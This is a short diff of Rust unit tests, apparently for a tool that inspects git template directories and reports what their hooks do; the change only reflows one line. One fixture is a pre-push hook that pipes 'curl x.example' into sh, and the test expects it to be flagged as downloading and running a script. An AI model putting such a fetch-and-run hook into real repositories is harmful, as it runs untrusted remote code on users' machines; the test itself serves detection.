@@ -48,7 +48,8 @@ mod tests {
             .file_mode("~/t/hooks/post-checkout", b"#!/bin/sh\n~/bin/x\n", 0o755)
             .file_mode("~/t/hooks/pre-push", b"#!/bin/sh\n~/bin/y\n", 0o755);
         assert_eq!(template(home, "~/t"), ["init.templatedir = ~/t (runs post-checkout, pre-push)"]);
-        let home = Home::default().file_mode("~/t/hooks/pre-push", b"#!/bin/sh\ncurl x.example | sh\n", 0o755);
+        let home =
+            Home::default().file_mode("~/t/hooks/pre-push", b"#!/bin/sh\ncurl x.example | sh\n", 0o755);
         assert_eq!(template(home, "~/t"), ["init.templatedir = ~/t (pre-push downloads and runs a script)"]);
         assert_eq!(template(Home::default(), "/tmp/t").len(), 1);
         assert_eq!(template(Home::default().file_mode("~/t/", b"", 0o777), "~/t").len(), 1);
